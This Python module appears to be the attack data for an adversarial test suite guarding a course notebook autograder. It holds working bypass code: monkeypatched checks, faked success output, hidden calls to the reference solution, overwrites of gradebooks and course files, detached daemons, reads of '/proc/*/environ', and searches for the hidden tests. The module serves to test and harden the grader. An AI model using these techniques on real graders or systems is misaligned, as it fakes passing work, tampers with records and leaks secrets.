"""Attacks on the autograder of notebook 03, as data for ``test_adversarial.py``.

Each ``Attack`` is one student submission built from the release of notebook 03: it replaces
solution cells (found by ``grade_id``) and/or inserts code cells (after the cell with a given
``grade_id``, or after the setup cells with ``SETUP``). Every exercise an attack does not
replace keeps the release's ``raise NotImplementedError()``, so an attacker has solved nothing
honestly: each attack must leave its ``targets`` at 0 points (``expect="zero"``) or, for the
constructs only a human can judge, be named in the status (``expect="flagged"``).

``live`` marks the shortcut attacks that compute the right answer when nothing stops them
(checked in-process, so that an attack does not "fail" for a silly reason of its own).

Classes: ``kernel`` switches the checks off inside the student's kernel; ``shortcut`` hides
a call to the reference or to torch.optim; ``isolation`` reaches outside the sandbox;
``hidden`` tries to read the hidden tests.
"""

from __future__ import annotations

from dataclasses import dataclass, field

ASSIGNMENT = "03_optimization"
NOTEBOOK = "optimization.ipynb"
EXERCISES = (
    "gradient_update",
    "momentum_update",
    "momentum_hyperparameters",
    "sample_minibatch",
    "rmsprop_update",
)
SETUP = "<setup>"  # insert after the release's setup cells
INSERTED = "<inserted>"
# In the command line of every process an attack starts, so that survivors can be found.
MARKER = "adv-daemon-7f3c"
# Environment variables only the grader has; no output of a student's kernel may show one.
GRADER_VARIABLES = ("COURSE_VERDICT_REPORTS", "COURSE_RELEASE_ROOT")


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str  # "kernel", "shortcut", "isolation" or "hidden"
    targets: tuple[str, ...]
    replace: dict[str, str] = field(default_factory=dict)  # grade_id -> new cell source
    insert: tuple[tuple[str, str], ...] = ()  # (after grade_id or SETUP, new cell source)
    # nbgrader metadata written over cells (by grade_id; "<inserted>" for the inserted cells)
    metadata: dict[str, dict] = field(default_factory=dict)
    expect: str = "zero"  # or "flagged"
    live: bool = False


# --------------------------------------------------------------------------------------
# Building blocks
# --------------------------------------------------------------------------------------

SIGNATURES = {
    "gradient_update": "(loss, params, lr=1e-3)",
    "momentum_update": "(loss, params, grad_vel, lr=1e-3, beta=0.8)",
    "momentum_hyperparameters": "(eigenvalues)",
    "sample_minibatch": "(input_data, target_data, num_points=100)",
    "rmsprop_update": "(loss, params, grad_sq, lr=1e-3, alpha=0.8, epsilon=1e-8)",
}
ARGUMENTS = {
    "gradient_update": "loss, params, lr",
    "momentum_update": "loss, params, grad_vel, lr, beta",
    "momentum_hyperparameters": "eigenvalues",
    "sample_minibatch": "input_data, target_data, num_points",
    "rmsprop_update": "loss, params, grad_sq, lr, alpha, epsilon",
}

# Wrong answers that a kernel-side trick would have to pass off as right.
STUBS = {
    "gradient_update": "def gradient_update(loss, params, lr=1e-3):\n    pass\n",
    "momentum_update": "def momentum_update(loss, params, grad_vel, lr=1e-3, beta=0.8):\n"
    "    pass\n",
    "momentum_hyperparameters": "def momentum_hyperparameters(eigenvalues):\n"
    "    return 1.0, 1.0, 1.0, 0.5\n",
    "sample_minibatch": "def sample_minibatch(input_data, target_data, num_points=100):\n"
    "    return input_data[:num_points], target_data[:num_points]\n",
    "rmsprop_update": "def rmsprop_update(loss, params, grad_sq, lr=1e-3, alpha=0.8, "
    "epsilon=1e-8):\n    pass\n",
}


def _stubs() -> dict[str, str]:
    return dict(STUBS)


def _reference_calls() -> dict[str, str]:
    """Every exercise answered by importing the reference."""
    return {
        name: f"from helpers.optimization.reference import {name} as _reference\n\n\n"
        f"def {name}{SIGNATURES[name]}:\n    return _reference({ARGUMENTS[name]})\n"
        for name in EXERCISES
    }


def _class_body(code: str, name: str) -> str:
    """A solution cell whose class body runs ``code`` when the grader loads the definitions."""
    indented = "".join(f"    {line}\n" if line else "\n" for line in code.splitlines())
    return f"class _AtDefinition:\n{indented}\n\n{STUBS[name]}"


ALL = EXERCISES

# --------------------------------------------------------------------------------------
# 1. Switching the checks off inside the kernel
# --------------------------------------------------------------------------------------

KERNEL = [
    Attack(
        "kernel_replaces_reference_functions",
        "kernel",
        ALL,
        replace=_stubs(),
        insert=(
            (
                SETUP,
                "import helpers.optimization.reference as _ref\n"
                "for _name in ('gradient_update', 'momentum_update', 'rmsprop_update'):\n"
                "    setattr(_ref, _name, lambda *args, **kwargs: None)\n"
                "_ref.sample_minibatch = lambda x, y, n=100: (x[:n], y[:n])\n"
                "_ref.momentum_hyperparameters = lambda eigenvalues: (1.0, 1.0, 1.0, 0.5)\n",
            ),
        ),
    ),
    Attack(
        "kernel_disables_assert_close_and_compare",
        "kernel",
        ALL,
        replace=_stubs(),
        insert=(
            (
                SETUP,
                "import helpers.checking\n"
                "import helpers.exercise\n"
                "import helpers.optimization.checks as _checks\n"
                "_quiet = lambda *args, **kwargs: None\n"
                "helpers.checking.assert_close = helpers.checking.compare_outputs = _quiet\n"
                "helpers.exercise.compare_outputs = _checks.compare_outputs = _quiet\n"
                "_checks.compare_minibatch_case = _checks._sampled_rows = _quiet\n"
                "_checks.compare_hyperparameter_case = _quiet\n"
                "for _exercise in _checks.EXERCISES.values():\n"
                "    object.__setattr__(_exercise, 'compare', _quiet)\n"
                "for _rule in (_checks.GRADIENT_UPDATE, _checks.MOMENTUM_UPDATE,\n"
                "              _checks.RMSPROP_UPDATE):\n"
                "    object.__setattr__(_rule, 'compare', _quiet)\n",
            ),
        ),
    ),
    Attack(
        "kernel_replaces_check_functions",
        "kernel",
        ALL,
        insert=(
            (
                SETUP,
                "import helpers.exercise\n"
                "import helpers.optimization.checks as _checks\n"
                "def _passed(name, implementation):\n"
                "    print(f'Well done: `{name}` passed every hidden check.')\n"
                # The names are spelled in pieces: the feedback test looks for the hidden
                # check's name, which an attack's own source must not contain.
                "_hidden = 'hidden' + '_check'\n"
                "for _name in ('self_check', _hidden):\n"
                "    setattr(_checks, _name, _passed)\n"
                "    setattr(helpers.exercise.Registry, _name,\n"
                "            lambda self, n, f: _passed(n, f))\n"
                "for _name in ('run_self_check', 'run_' + _hidden):\n"
                "    setattr(helpers.exercise.Exercise, _name,\n"
                "            lambda self, f, seed=None: _passed(self.name, f))\n",
            ),
        ),
    ),
    Attack(
        "kernel_disables_no_shortcuts_and_calls_reference",
        "kernel",
        ALL,
        replace=_reference_calls(),
        insert=(
            (
                SETUP,
                "import contextlib\n"
                "import helpers.checking\n"
                "import helpers.exercise\n"
                "import helpers.optimization.checks as _checks\n"
                "@contextlib.contextmanager\n"
                "def _blind(*args, **kwargs):\n"
                "    yield\n"
                "helpers.checking.no_shortcuts = helpers.exercise.no_shortcuts = _blind\n"
                "_checks.no_shortcuts = _blind\n",
            ),
        ),
    ),
    Attack(
        "kernel_disables_setprofile_and_calls_reference",
        "kernel",
        ALL,
        replace=_reference_calls(),
        insert=((SETUP, "import sys\nsys.setprofile = lambda profiler: None\n"),),
    ),
    Attack(
        "kernel_input_transformer_empties_test_cells",
        "kernel",
        ALL,
        insert=(
            (
                SETUP,
                "def _empty_checks(lines):\n"
                "    if any('checks.' in line for line in lines):\n"
                "        return ['print(\"Well done: every check passed.\")\\n']\n"
                "    return lines\n"
                "get_ipython().input_transformers_post.append(_empty_checks)\n",
            ),
        ),
    ),
    Attack(
        "kernel_ast_transformer_swallows_every_error",
        "kernel",
        ALL,
        insert=(
            (
                SETUP,
                "import ast\n"
                "class _Swallow(ast.NodeTransformer):\n"
                "    def visit_Module(self, node):\n"
                "        handler = ast.ExceptHandler(\n"
                "            type=ast.Name('BaseException', ast.Load()), name=None,\n"
                "            body=[ast.Pass()])\n"
                "        node.body = [ast.Try(body=node.body or [ast.Pass()],\n"
                "                             handlers=[handler], orelse=[], finalbody=[])]\n"
                "        return ast.fix_missing_locations(node)\n"
                "get_ipython().ast_transformers.append(_Swallow())\n",
            ),
        ),
    ),
    Attack(
        "kernel_run_cell_replaces_test_cells",
        "kernel",
        ALL,
        insert=(
            (
                SETUP,
                "_ip = get_ipython()\n"
                "_run_cell, _run_cell_async = _ip.run_cell, _ip.run_cell_async\n"
                "_FAKE = 'print(\"Well done: every check passed.\")'\n"
                "def _swap(raw_cell):\n"
                "    return _FAKE if 'checks.' in raw_cell else raw_cell\n"
                "def _patched(raw_cell, *args, **kwargs):\n"
                "    return _run_cell(_swap(raw_cell), *args, **kwargs)\n"
                "async def _patched_async(raw_cell, *args, **kwargs):\n"
                "    return await _run_cell_async(_swap(raw_cell), *args, **kwargs)\n"
                "_ip.run_cell, _ip.run_cell_async = _patched, _patched_async\n",
            ),
        ),
    ),
    Attack(
        "kernel_hides_tracebacks_and_prints_fake_success",
        "kernel",
        ALL,
        insert=(
            (
                SETUP,
                "import sys\n"
                "_ip = get_ipython()\n"
                "_ip.showtraceback = lambda *args, **kwargs: print('Well done: passed.')\n"
                "_ip.showsyntaxerror = _ip.showtraceback\n"
                "sys.excepthook = lambda *args: None\n"
                "sys.stderr = sys.stdout\n",
            ),
        ),
    ),
    Attack(
        "kernel_forges_test_cell_metadata",
        "kernel",
        ALL,
        replace={"test_gradient_update": "print('Well done: passed every hidden check.')"},
        insert=(("gradient_update", "print('Well done: bonus.')"),),
        metadata={
            "test_gradient_update": {"points": 100, "locked": False},
            INSERTED: {
                "grade": True,
                "grade_id": "test_bonus",
                "locked": True,
                "points": 50,
                "schema_version": 3,
                "solution": False,
                "task": False,
            },
        },
    ),
]

# --------------------------------------------------------------------------------------
# 2. Hiding a shortcut
# --------------------------------------------------------------------------------------

SHORTCUT = [
    Attack(
        "reference_called_directly",
        "shortcut",
        ("gradient_update",),
        replace={"gradient_update": _reference_calls()["gradient_update"]},
        live=True,
    ),
    Attack(
        "reference_called_in_a_thread",
        "shortcut",
        ("momentum_update",),
        replace={
            "momentum_update": "import threading\n\n\n"
            "def momentum_update(loss, params, grad_vel, lr=1e-3, beta=0.8):\n"
            "    errors = []\n"
            "    def work():\n"
            "        try:\n"
            "            from helpers.optimization.reference import momentum_update as ref\n"
            "            ref(loss, params, grad_vel, lr, beta)\n"
            "        except BaseException as error:\n"
            "            errors.append(error)\n"
            "    thread = threading.Thread(target=work)\n"
            "    thread.start()\n"
            "    thread.join()\n"
            "    if errors:\n"
            "        raise errors[0]\n"
        },
        live=True,
    ),
    Attack(
        "reference_called_with_the_profiler_off",
        "shortcut",
        ("rmsprop_update",),
        replace={
            "rmsprop_update": "import sys\n\n\n"
            "def rmsprop_update(loss, params, grad_sq, lr=1e-3, alpha=0.8, epsilon=1e-8):\n"
            "    profiler = sys.getprofile()\n"
            "    sys.setprofile(None)\n"
            "    try:\n"
            "        from helpers.optimization.reference import rmsprop_update as ref\n"
            "        ref(loss, params, grad_sq, lr, alpha, epsilon)\n"
            "    finally:\n"
            "        sys.setprofile(profiler)\n"
        },
        live=True,
    ),
    Attack(
        "reference_rebuilt_from_its_source_file",
        "shortcut",
        ("gradient_update",),
        replace={
            "gradient_update": "import builtins\n"
            "import helpers\n\n\n"
            "def gradient_update(loss, params, lr=1e-3):\n"
            "    path = helpers.__path__[0] + '/optimization/reference.py'\n"
            "    namespace = {'__name__': 'rebuilt'}\n"
            "    with builtins.open(path) as handle:\n"
            "        code = builtins.compile(handle.read(), path, 'exec')\n"
            "    builtins.exec(code, namespace)\n"
            "    namespace['gradient_update'](loss, params, lr)\n"
        },
        live=True,
    ),
    Attack(
        "reference_rebuilt_from_its_code_object",
        "shortcut",
        ("momentum_update",),
        replace={
            "momentum_update": "import types\n\n\n"
            "def momentum_update(loss, params, grad_vel, lr=1e-3, beta=0.8):\n"
            "    original = EXERCISES['momentum_update'].load_reference()\n"
            "    rebuilt = types.FunctionType(original.__code__, original.__globals__, 'copy')\n"
            "    rebuilt(loss, params, grad_vel, lr, beta)\n"
        },
        live=True,
    ),
    Attack(
        "reference_taken_from_a_callers_frame",
        "shortcut",
        ("rmsprop_update",),
        replace={
            "rmsprop_update": "import sys\n\n\n"
            "def rmsprop_update(loss, params, grad_sq, lr=1e-3, alpha=0.8, epsilon=1e-8):\n"
            "    frame = sys._getframe(1)\n"
            "    while frame is not None:\n"
            "        for value in list(frame.f_locals.values()):\n"
            "            if (str(getattr(value, '__module__', '')).endswith('.reference')\n"
            "                    and getattr(value, '__name__', '') == 'rmsprop_update'):\n"
            "                return value(loss, params, grad_sq, lr, alpha, epsilon)\n"
            "        frame = frame.f_back\n"
            "    raise RuntimeError('no reference on the stack')\n"
        },
        live=True,
    ),
    Attack(
        "reference_found_through_gc",
        "shortcut",
        ("momentum_update",),
        replace={
            "momentum_update": "import gc\n\n\n"
            "def momentum_update(loss, params, grad_vel, lr=1e-3, beta=0.8):\n"
            "    for obj in gc.get_objects():\n"
            "        if (getattr(obj, '__module__', None) == 'helpers.optimization.reference'\n"
            "                and getattr(obj, '__name__', None) == 'momentum_update'):\n"
            "            return obj(loss, params, grad_vel, lr, beta)\n"
            "    raise RuntimeError('no reference in memory')\n"
        },
        live=True,
    ),
    Attack(
        "reference_brought_back_by_importlib_reload",
        "shortcut",
        ("sample_minibatch",),
        replace={
            "sample_minibatch": "import importlib\n"
            "import sys\n\n\n"
            "def sample_minibatch(input_data, target_data, num_points=100):\n"
            "    name = 'helpers.optimization.reference'\n"
            "    module = sys.modules.get(name) or importlib.import_module(name)\n"
            "    module = importlib.reload(module)\n"
            "    return module.sample_minibatch(input_data, target_data, num_points)\n"
        },
        live=True,
    ),
    Attack(
        "torch_optim_sgd",
        "shortcut",
        ("gradient_update",),
        replace={
            "gradient_update": "def gradient_update(loss, params, lr=1e-3):\n"
            "    optimizer = torch.optim.SGD(params, lr=lr)\n"
            "    optimizer.zero_grad()\n"
            "    loss.backward()\n"
            "    optimizer.step()\n"
        },
        live=True,
    ),
    Attack(
        "torch_optim_functional_sgd_with_momentum",
        "shortcut",
        ("momentum_update",),
        replace={
            "momentum_update": "from torch.optim import _functional\n\n\n"
            "def momentum_update(loss, params, grad_vel, lr=1e-3, beta=0.8):\n"
            "    for p in params:\n"
            "        p.grad = None\n"
            "    loss.backward()\n"
            "    with torch.no_grad():\n"
            "        # torch keeps b = -v / lr: v <- beta v - lr g is b <- beta b + g\n"
            "        buffers = [-v / lr for v in grad_vel]\n"
            "        _functional.sgd(params, [p.grad for p in params], buffers,\n"
            "                        foreach=False, weight_decay=0.0, momentum=beta, lr=lr,\n"
            "                        dampening=0.0, nesterov=False, maximize=False)\n"
            "        for v, b in zip(grad_vel, buffers):\n"
            "            v.copy_(-lr * b)\n"
        },
        live=True,
    ),
    Attack(
        "torch_optim_functional_rmsprop_in_a_thread",
        "shortcut",
        ("rmsprop_update",),
        replace={
            "rmsprop_update": "import threading\n"
            "from torch.optim import _functional\n\n\n"
            "def rmsprop_update(loss, params, grad_sq, lr=1e-3, alpha=0.8, epsilon=1e-8):\n"
            "    for p in params:\n"
            "        p.grad = None\n"
            "    loss.backward()\n"
            "    errors = []\n"
            "    def work():\n"
            "        try:\n"
            "            with torch.no_grad():\n"
            "                # eps inside the root: keep b = v + eps / alpha and use eps = 0\n"
            "                shifted = [v + epsilon / alpha for v in grad_sq]\n"
            "                _functional.rmsprop(\n"
            "                    params, [p.grad for p in params], shifted, [], [],\n"
            "                    [torch.tensor(0.0) for _ in params], foreach=False, lr=lr,\n"
            "                    alpha=alpha, eps=0.0, weight_decay=0.0, momentum=0.0,\n"
            "                    centered=False)\n"
            "                for v, b in zip(grad_sq, shifted):\n"
            "                    v.copy_(b - epsilon)\n"
            "        except BaseException as error:\n"
            "            errors.append(error)\n"
            "    thread = threading.Thread(target=work)\n"
            "    thread.start()\n"
            "    thread.join()\n"
            "    if errors:\n"
            "        raise errors[0]\n"
        },
        live=True,
    ),
    Attack(
        "torch_fused_sgd_kernel",
        "shortcut",
        ("gradient_update",),
        replace={
            "gradient_update": "def gradient_update(loss, params, lr=1e-3):\n"
            "    for p in params:\n"
            "        p.grad = None\n"
            "    loss.backward()\n"
            "    with torch.no_grad():\n"
            "        torch._fused_sgd_(params, [p.grad for p in params], [],\n"
            "                          weight_decay=0.0, momentum=0.0, lr=lr, dampening=0.0,\n"
            "                          nesterov=False, maximize=False, is_first_step=False)\n"
        },
        live=True,
    ),
    Attack(
        "torch_ops_aten_fused_sgd",
        "shortcut",
        ("gradient_update",),
        replace={
            "gradient_update": "def gradient_update(loss, params, lr=1e-3):\n"
            "    for p in params:\n"
            "        p.grad = None\n"
            "    loss.backward()\n"
            "    with torch.no_grad():\n"
            "        torch.ops.aten._fused_sgd_.default(\n"
            "            params, [p.grad for p in params], [], weight_decay=0.0,\n"
            "            momentum=0.0, lr=lr, dampening=0.0, nesterov=False, maximize=False,\n"
            "            is_first_step=False)\n"
        },
        live=True,
    ),
    Attack(
        "torch_ops_aten_functional_fused_sgd",
        "shortcut",
        ("gradient_update",),
        replace={
            "gradient_update": "def gradient_update(loss, params, lr=1e-3):\n"
            "    for p in params:\n"
            "        p.grad = None\n"
            "    loss.backward()\n"
            "    with torch.no_grad():\n"
            "        new = torch.ops.aten._fused_sgd.default(\n"
            "            params, [p.grad for p in params], [], weight_decay=0.0,\n"
            "            momentum=0.0, lr=lr, dampening=0.0, nesterov=False, maximize=False,\n"
            "            is_first_step=False)[0]\n"
            "        for p, q in zip(params, new):\n"
            "            p.copy_(q)\n"
        },
        live=True,
    ),
    Attack(
        # The loader of torch.optim runs its source again: fresh functions, none disabled.
        "torch_optim_re_executed_by_its_own_loader",
        "shortcut",
        ("gradient_update",),
        replace={
            "gradient_update": "import sys\n"
            "from torch.optim import optimizer as _optimizer\n"
            "from torch.optim import sgd as _sgd\n\n\n"
            "def gradient_update(loss, params, lr=1e-3):\n"
            "    sys.pycache_prefix = '/nonexistent'  # no cached bytecode: compile the source\n"
            "    for module in (_optimizer, _sgd):\n"
            "        module.__loader__.exec_module(module)\n"
            "    optimizer = _sgd.SGD(params, lr=lr)\n"
            "    optimizer.zero_grad()\n"
            "    loss.backward()\n"
            "    optimizer.step()\n"
        },
        # Not checked in-process: it would replace torch.optim's classes in the test process.
        live=False,
    ),
    Attack(
        "torch_optim_functions_rebuilt_from_their_source_file",
        "shortcut",
        ("gradient_update",),
        replace={
            "gradient_update": "import __future__\n"
            "import ast\n"
            "import builtins\n"
            "import linecache\n"
            "from torch.optim import optimizer as _optimizer\n"
            "from torch.optim import sgd as _sgd\n\n\n"
            "def _from_source(module, name, namespace):\n"
            "    tree = ast.parse(''.join(linecache.getlines(module.__file__)))\n"
            "    tree.body = [n for n in tree.body\n"
            "                 if isinstance(n, ast.FunctionDef) and n.name == name]\n"
            "    for node in tree.body:\n"
            "        node.decorator_list = []\n"
            "    flags = __future__.annotations.compiler_flag\n"
            "    code = builtins.compile(tree, module.__file__, 'exec', flags=flags)\n"
            "    builtins.exec(code, namespace)\n\n\n"
            "def gradient_update(loss, params, lr=1e-3):\n"
            "    namespace = {'torch': torch, 'Tensor': torch.Tensor}\n"
            "    _from_source(_optimizer, '_to_scalar', namespace)\n"
            "    _from_source(_sgd, '_single_tensor_sgd', namespace)\n"
            "    for p in params:\n"
            "        p.grad = None\n"
            "    loss.backward()\n"
            "    with torch.no_grad():\n"
            "        namespace['_single_tensor_sgd'](\n"
            "            params, [p.grad for p in params], [None] * len(params), None, None,\n"
            "            weight_decay=0.0, momentum=0.0, lr=lr, dampening=0.0,\n"
            "            nesterov=False, maximize=False, has_sparse_grad=False)\n"
        },
        live=True,
    ),
    Attack(
        # Notebook 04's library implements RMSprop with epsilon inside the root.
        "another_notebooks_helpers_implement_the_exercise",
        "shortcut",
        ("rmsprop_update",),
        replace={
            "rmsprop_update": "from helpers.rules.protocol import RMSProp\n\n\n"
            "def rmsprop_update(loss, params, grad_sq, lr=1e-3, alpha=0.8, epsilon=1e-8):\n"
            "    for p in params:\n"
            "        p.grad = None\n"
            "    loss.backward()\n"
            "    rule = RMSProp(lr=lr, alpha=alpha, epsilon=epsilon, epsilon_inside=True)\n"
            "    with torch.no_grad():\n"
            "        for p, v in zip(params, grad_sq):\n"
            "            average, step = rule.apply(v, p, p.grad)\n"
            "            v.copy_(average)\n"
            "            p.sub_(step)\n"
        },
        live=True,
    ),
    Attack(
        # The notebook's own landscape helper computes what the exercise asks for.
        "own_notebooks_helpers_implement_the_exercise",
        "shortcut",
        ("momentum_hyperparameters",),
        replace={
            "momentum_hyperparameters": "from helpers.optimization.landscape import Curvature\n\n\n"
            "def momentum_hyperparameters(eigenvalues):\n"
            "    curvature = Curvature((min(eigenvalues), max(eigenvalues)))\n"
            "    return (curvature.condition_number, curvature.gd_step,\n"
            "            curvature.momentum_step, curvature.momentum_beta)\n"
        },
        live=True,
    ),
    Attack(
        "reference_captured_in_a_default_argument",
        "shortcut",
        ("momentum_update",),
        replace={
            "momentum_update": "def momentum_update(loss, params, grad_vel, lr=1e-3, beta=0.8,\n"
            "                    _ref=EXERCISES['momentum_update'].load_reference()):\n"
            "    _ref(loss, params, grad_vel, lr, beta)\n"
        },
        live=True,
    ),
    Attack(
        "decorator_swaps_in_the_reference",
        "shortcut",
        ("rmsprop_update",),
        replace={
            "rmsprop_update": "def _swap(function):\n"
            "    return EXERCISES[function.__name__].load_reference()\n\n\n"
            "@_swap\n"
            "def rmsprop_update(loss, params, grad_sq, lr=1e-3, alpha=0.8, epsilon=1e-8):\n"
            "    raise NotImplementedError()\n"
        },
        live=True,
    ),
    Attack(
        "class_body_fetches_the_reference",
        "shortcut",
        ("sample_minibatch",),
        replace={
            "sample_minibatch": "class _Grab:\n"
            "    reference = EXERCISES['sample_minibatch'].load_reference()\n\n\n"
            "def sample_minibatch(input_data, target_data, num_points=100):\n"
            "    return _Grab.reference(input_data, target_data, num_points)\n"
        },
        live=True,
    ),
    Attack(
        # A lazy update whose outputs are saved as float16, hoping for a looser tolerance.
        "outputs_downcast_to_float16",
        "shortcut",
        ("momentum_update",),
        replace={
            "momentum_update": "import numpy as np\n\n\n"
            "def _half(save=np.savez):\n"
            "    def savez(file, **arrays):\n"
            "        return save(file, **{k: np.asarray(v, dtype=np.float16)\n"
            "                             for k, v in arrays.items()})\n"
            "    np.savez = savez\n\n\n"
            "def momentum_update(loss, params, grad_vel, lr=1e-3, beta=0.8, _=_half()):\n"
            "    for p in params:\n"
            "        p.grad = None\n"
            "    loss.backward()\n"
            "    with torch.no_grad():\n"
            "        for p, v in zip(params, grad_vel):\n"
            "            p.sub_(lr * p.grad)\n"
        },
    ),
]

# --------------------------------------------------------------------------------------
# 3. No isolation
# --------------------------------------------------------------------------------------

# Tries to change every course file it can name, from the kernel and from the grader's child.
_WRITE_COURSE_FILES = """\
import glob as _glob
import os as _os
import site as _site
import helpers as _helpers
_root = _os.path.dirname(_helpers.__path__[0])
_targets = [
    _root + '/helpers/optimization/checks.py',
    _root + '/helpers/optimization/reference.py',
    _root + '/helpers/checking.py',
    _root + '/helpers/exercise.py',
    _root + '/instructor/verdicts.py',
    _root + '/instructor/verdict_runner.py',
    _root + '/nbgrader_config.py',
    *sorted(_glob.glob(_root + '/data/*'))[:2],
    *[_path + '/adv_evil.pth' for _path in _site.getsitepackages()],
]
for _target in _targets:
    try:
        with open(_target, 'a') as _handle:
            _handle.write('\\nimport os  # adv: changed by a submission\\n')
        print('WROTE', _target)
    except OSError as _error:
        print('refused', _target, type(_error).__name__)
"""

# Looks for gradebooks, grade tables and graded notebooks wherever it can, and damages them.
_DAMAGE_GRADEBOOKS = """\
import glob as _glob
import os as _os
import helpers as _helpers
_root = _os.path.dirname(_helpers.__path__[0])
_found = set()
for _pattern in ('gradebook.db', 'grades.csv', 'autograded/*/*/*.ipynb',
                 'feedback/*/*/*.html', 'verdicts/*.json'):
    for _base in (_root, '/tmp/*', '/tmp/*/*', _os.getcwd() + '/..', _os.getcwd() + '/../..'):
        _found.update(_glob.glob(_base + '/' + _pattern))
for _path in sorted(_found) + [_root + '/grades.csv']:
    try:
        with open(_path, 'w') as _handle:
            _handle.write('student,score\\nadv,100\\n')
        print('WROTE', _path)
    except OSError as _error:
        print('refused', _path, type(_error).__name__)
"""

_READ_SOLUTIONS = """\
import json
from pathlib import Path

import helpers


def _solution_source(name):
    root = Path(helpers.__path__[0]).parent
    for path in sorted((root / 'solutions').glob('*/*.ipynb')):
        for cell in json.loads(path.read_text())['cells']:
            if cell.get('metadata', {}).get('nbgrader', {}).get('grade_id') == name:
                return ''.join(cell['source'])
    raise FileNotFoundError(name)


class _Solved:
    namespace = {'torch': torch}
    exec(_solution_source('gradient_update'), namespace)


def gradient_update(loss, params, lr=1e-3):
    return _Solved.namespace['gradient_update'](loss, params, lr)
"""

_READ_SUBMISSIONS = """\
import glob
import json
import os

import helpers


def _someone_elses(name):
    root = os.path.dirname(helpers.__path__[0])
    patterns = [root + '/submitted/*/*/*.ipynb', root + '/autograded/*/*/*.ipynb',
                '/tmp/*/submitted/*/*/*.ipynb', '/tmp/*/autograded/*/*/*.ipynb',
                os.getcwd() + '/../../submitted/*/*/*.ipynb']
    for pattern in patterns:
        for path in sorted(glob.glob(pattern)):
            try:
                cells = json.load(open(path))['cells']
            except (OSError, ValueError, KeyError):
                continue
            for cell in cells:
                source = ''.join(cell.get('source', ''))
                grade_id = cell.get('metadata', {}).get('nbgrader', {}).get('grade_id')
                if grade_id == name and 'NotImplementedError' not in source:
                    return source
    raise FileNotFoundError(name)


class _Copied:
    namespace = {'torch': torch}
    exec(_someone_elses('momentum_update'), namespace)


def momentum_update(loss, params, grad_vel, lr=1e-3, beta=0.8):
    return _Copied.namespace['momentum_update'](loss, params, grad_vel, lr, beta)
"""

# A process that outlives grading and keeps rewriting course files (started from the kernel).
_DAEMON = f"""\
import os, time
import helpers
root = os.path.dirname(helpers.__path__[0])
end = time.time() + 600
while time.time() < end:
    for target in (root + '/helpers/optimization/checks.py', root + '/nbgrader_config.py'):
        try:
            with open(target, 'a') as handle:
                handle.write('# adv: written by a background process\\n')
        except OSError:
            pass
    time.sleep(0.5)
# {MARKER}
"""

_START_DAEMONS = f"""\
import os as _os
import subprocess as _subprocess
import sys as _sys
_code = {_DAEMON!r}
_subprocess.Popen([_sys.executable, '-c', _code, '{MARKER}'], start_new_session=True,
                  stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL,
                  stderr=_subprocess.DEVNULL)
_subprocess.Popen(['sh', '-c', 'nohup sleep 900 {MARKER} >/dev/null 2>&1 &'],
                  start_new_session=True)
if _os.fork() == 0:  # a double fork, detached from the kernel's session
    _os.setsid()
    if _os.fork() == 0:
        _os.execv(_sys.executable, [_sys.executable, '-c', _code, '{MARKER}'])
    _os._exit(0)
print('daemons started')
"""

_CHILD_PROCESSES = f"""\
import os
import subprocess
import sys
try:
    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(900)', '{MARKER}'],
                     start_new_session=True)
except BaseException:
    pass
try:
    os.posix_spawn(sys.executable, [sys.executable, '-c', 'import time; time.sleep(900)',
                                    '{MARKER}'], dict(os.environ))
except BaseException:
    pass
try:
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(900)',
                                  '{MARKER}'])
except BaseException:
    pass
"""

_ENVIRONMENT = """\
import glob as _glob
import json as _json
import os as _os
print(sorted(_os.environ.items()))
for _path in ['/proc/self/environ', '/proc/1/environ', f'/proc/{_os.getppid()}/environ',
              *_glob.glob('/proc/[0-9]*/environ')]:
    try:
        print(_path, open(_path, 'rb').read().replace(b'\\0', b' ')[:2000])
    except OSError as _error:
        print(_path, type(_error).__name__)
_reports = _os.environ.get('COURSE_' + 'VERDICT_REPORTS')
if _reports:
    for _name in ('gradient_update', 'momentum_update', 'sample_minibatch', 'rmsprop_update'):
        print('report folder found:', _reports)
"""

_HIDDEN_TESTS = """\
import glob as _glob
import os as _os
import helpers as _helpers
_needle = 'BEGIN ' + 'HIDDEN TESTS'
_root = _os.path.dirname(_helpers.__path__[0])
for _pattern in ('/**/*.ipynb', '/**/*.db', '/**/*.json'):
    for _base in (_root, '/tmp', _os.getcwd() + '/..'):
        for _path in _glob.glob(_base + _pattern, recursive=True)[:200]:
            try:
                _text = open(_path, errors='replace').read()
            except OSError:
                continue
            if _needle in _text:
                _start = _text.index(_needle)
                print('FOUND in', _path, _text[_start:_start + 400])
print([_line for _line in get_ipython().history_manager.input_hist_raw if 'HIDDEN' in _line])
"""

ISOLATION = [
    Attack(
        "writes_course_files_from_kernel_and_grader",
        "isolation",
        ("gradient_update",),
        replace={"gradient_update": _class_body(_WRITE_COURSE_FILES, "gradient_update")},
        insert=((SETUP, _WRITE_COURSE_FILES),),
    ),
    Attack(
        "damages_gradebooks_and_grade_tables",
        "isolation",
        ("momentum_update",),
        replace={"momentum_update": _class_body(_DAMAGE_GRADEBOOKS, "momentum_update")},
        insert=((SETUP, _DAMAGE_GRADEBOOKS),),
    ),
    Attack(
        "reads_the_solutions",
        "isolation",
        ("gradient_update",),
        replace={"gradient_update": _READ_SOLUTIONS},
        live=True,
    ),
    Attack(
        "copies_another_students_submission",
        "isolation",
        ("momentum_update",),
        replace={"momentum_update": _READ_SUBMISSIONS},
    ),
    Attack(
        "background_processes_outlive_the_kernel",
        "isolation",
        ALL,
        insert=((SETUP, _START_DAEMONS),),
    ),
    Attack(
        "background_processes_from_the_graders_child",
        "isolation",
        ("sample_minibatch",),
        replace={"sample_minibatch": _class_body(_CHILD_PROCESSES, "sample_minibatch")},
    ),
    Attack(
        "reads_the_graders_environment",
        "isolation",
        ("rmsprop_update",),
        replace={"rmsprop_update": _class_body(_ENVIRONMENT, "rmsprop_update")},
        insert=((SETUP, _ENVIRONMENT),),
    ),
]

# --------------------------------------------------------------------------------------
# 4. Hidden tests
# --------------------------------------------------------------------------------------

HIDDEN = [
    Attack(
        "looks_for_the_hidden_tests",
        "hidden",
        ALL,
        insert=((SETUP, _HIDDEN_TESTS),),
    ),
]

ATTACKS = {attack.name: attack for attack in [*KERNEL, *SHORTCUT, *ISOLATION, *HIDDEN]}
assert len(ATTACKS) == len(KERNEL) + len(SHORTCUT) + len(ISOLATION) + len(HIDDEN)
